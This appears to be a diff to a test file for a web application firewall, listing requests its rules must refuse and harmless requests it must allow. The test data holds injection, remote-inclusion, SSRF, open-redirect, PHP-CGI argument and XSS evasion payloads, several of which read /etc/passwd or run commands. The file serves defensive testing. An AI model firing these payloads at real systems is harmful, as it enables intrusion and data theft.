@@ -52,6 +52,7 @@ type Vector = readonly [id: number, what: string, request: SampleRequest]
 
 // At paranoia level 1 each of these is refused, and the named rule is among those that matched.
 const refused: readonly Vector[] = [
+  [770207, 'words of a query cut by comments', query("x' uni/**/on sel/**/ect 9")],
   [770101, 'a method that nothing uses', { method: 'TRACE' }],
   [
     770104,
@@ -113,6 +114,8 @@ const refused: readonly Vector[] = [
   [770303, 'the bug of bash', agent('() { :; }; /bin/cat /etc/passwd')],
   [770304, 'a command in base64', form(base64('; cat /etc/passwd'))],
   [770305, 'an argument that sources a file', query('. private/payment.key', 'topic')],
+  [770307, 'an option for an interpreter', { target: '/?-d+allow_url_include%3d1' }],
+  [770307, 'an option alone', { target: '/index.php?-s' }],
   [770306, 'a command in the name of a browser', agent('Mozilla/5.0 (X11)|base64 secrets.yml')],
   [770301, 'a command in back-ticks before an address', form('`h$9ead -n 3 a.?nv`@example.org', 'email')],
   [770311, 'a template', form('{{7*7}}')],
@@ -122,6 +125,7 @@ const refused: readonly Vector[] = [
   [770321, 'script for the server', form("require('child_process').execSync('id')")],
   [770322, 'a function in a saved cart', form(base64('{"label":"$js:() => process.exit()"}'), 'cart')],
   [770323, 'PHP', form("<?php system($_GET['c']); ?>")],
+  [770323, 'a call as the whole value', query("exec('uptime')")],
   [770325, 'PHP in base64', form(base64("<?php system($_GET['c']); ?>"))],
   [770324, 'Python', form("__import__('os').system('id')")],
   [770326, 'Java in base64', form(base64('java.lang.Runtime.getRuntime()'))],
@@ -147,6 +151,7 @@ const refused: readonly Vector[] = [
   [770411, 'the metadata service', json({ url: 'http://169.254.169.254/latest/' })],
   [770412, 'a scheme for servers', query('gopher://10.0.0.1:25/_HELO', 'url')],
   [770413, 'a remote script', query('http://198.51.100.7/shell.txt?', 'page')],
+  [770413, 'a remote script cut by a NUL', query('http://scripts.example/s.txt%00', 'page')],
   [770414, 'an inner address without a scheme', query('//10.0.0.5:8080/admin', 'picture')],
   [770421, 'a redirect', query('https://larch-lantern.evil.example/login', 'to')],
   [770421, 'a redirect without scheme', query('//evil.example/..', 'to')],
@@ -162,6 +167,9 @@ const refused: readonly Vector[] = [
   [770501, 'a handler with references', query('<sVg/oNloAd=fetch&lpar;`//x`&#41;>')],
   [770502, 'a script in the path', { target: '/%3Cscript%3Ealert(1)%3C/script%3E' }],
   [770503, 'a script that leaves a string', query("';alert(1)//")],
+  [770503, 'a call by a computed name', query("self[Object.keys(self)[5]]('1')")],
+  [770503, 'a call by an escaped name', query("top['al\\x65rt'](1)")],
+  [770503, 'a script as an address', query('javascript:void(0)', 'next')],
   [770504, 'a script in escapes', query('\\u003cscript\\u003ealert(1)')],
   [770505, 'a script in base64', form(base64('<script>alert(1)</script>'))],
   [770506, 'an expression of a framework', query("{{$on.constructor('x')()}}")],
@@ -175,6 +183,9 @@ const refused: readonly Vector[] = [
 ]
 
 const innocent: readonly (readonly [what: string, request: SampleRequest])[] = [
+  ['a book about JavaScript', query('javascript: the good parts')],
+  ['a scheme in a sentence', query('file:// does not work')],
+  ['a number with a sign', { target: '/items?-1' }],
   [
     'a drawing',
     asDrawing('<svg xmlns="http://www.w3.org/2000/svg"><title>on = off</title><path d="M0 0"/></svg>'),
